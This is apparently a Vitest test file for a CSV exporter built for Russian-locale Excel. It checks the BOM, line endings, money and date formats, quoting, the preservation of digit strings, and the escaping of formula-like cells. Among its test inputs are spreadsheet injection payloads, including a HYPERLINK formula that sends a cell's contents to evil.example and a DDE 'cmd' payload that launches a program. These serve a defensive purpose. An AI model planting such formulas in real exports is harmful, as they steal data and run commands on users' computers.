import { expect, test } from "vitest";
import { csvHead, csvRow } from "./csv";
import type { Head } from "./table";

const heads: Head[] = [
  { title: "Клиент", kind: "text", width: 10 },
  { title: "Сумма, ₽", kind: "money", width: 10 },
  { title: "Дата", kind: "date", width: 10 },
];
const textOf = (cell: string) => csvRow(heads.slice(0, 1), [cell]);

test("a file begins with the mark of UTF-8; lines end as Excel writes them", () => {
  expect([...Buffer.from(csvHead(heads)).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(csvHead(heads)).toBe("\ufeffКлиент;Сумма, ₽;Дата\r\n");
});

test("amounts have a comma and no spaces, dates are as Russian Excel reads them", () => {
  expect(csvRow(heads, ["ООО «Ветер»", 123_456_789, "2026-11-21"])).toBe(
    "ООО «Ветер»;1234567,89;21.11.2026\r\n",
  );
  expect(csvRow(heads, [null, -5, null])).toBe(";-0,05;\r\n");
  expect(csvRow(heads, ["", 0, "2026-01-02"])).toBe(";0,00;02.01.2026\r\n");
});

test("what separates cells and lines is quoted", () => {
  expect(textOf("а;б")).toBe('"а;б"\r\n');
  expect(textOf('ООО "Ветер"')).toBe('"ООО ""Ветер"""\r\n');
  expect(textOf("раз\nдва")).toBe('"раз\nдва"\r\n');
  expect(textOf(" край ")).toBe('" край "\r\n');
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u00a0=1",
  '"=1',
  "'=1",
  " \" ' =1",
  "\u200b=1",
  "\ufeff=1",
  "＝1",
  "＋1",
  '=HYPERLINK("http://evil.example?x="&A1;"открыть")',
  "=cmd|' /C calc'!A0",
])("a cell of %j is harmless", (cell) => {
  const written = textOf(cell).slice(0, -2);
  const unquoted = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
  expect(unquoted).toBe(`'${cell}`);
});

test.each(["0412345678", "012345678", "40702810900000000001", "771234567890", "00"])(
  "the digits of %j stay as they are in Excel",
  (cell) => {
    expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
  },
);

test.each(["12/11", "3-26", "05.11.2026", "1.10", "7-11/2026", "12-2026", "10:30", "1E5", "12e3"])(
  "the number of a paper %j is neither a day nor another number in Excel",
  (cell) => {
    expect(textOf(cell)).toBe(`"=""${cell}"""\r\n`);
  },
);

test.each(["0412345678=1", "=0412345678", "40702810900000000001\n=1", '0412345678"&A1&"'])(
  "%j is no formula, though it has digits",
  (cell) => {
    expect(textOf(cell)).not.toMatch(/^"?=/);
  },
);

test.each([
  "0",
  "12345678901",
  "0,5",
  "ООО «=»",
  "а=б",
  "Д-2026/001",
  "7800000027",
  "e-mail@example.ru",
  "100 % + 1",
])("a cell of %j stays as it is", (cell) => {
  expect(textOf(cell)).toBe(`${cell}\r\n`);
});
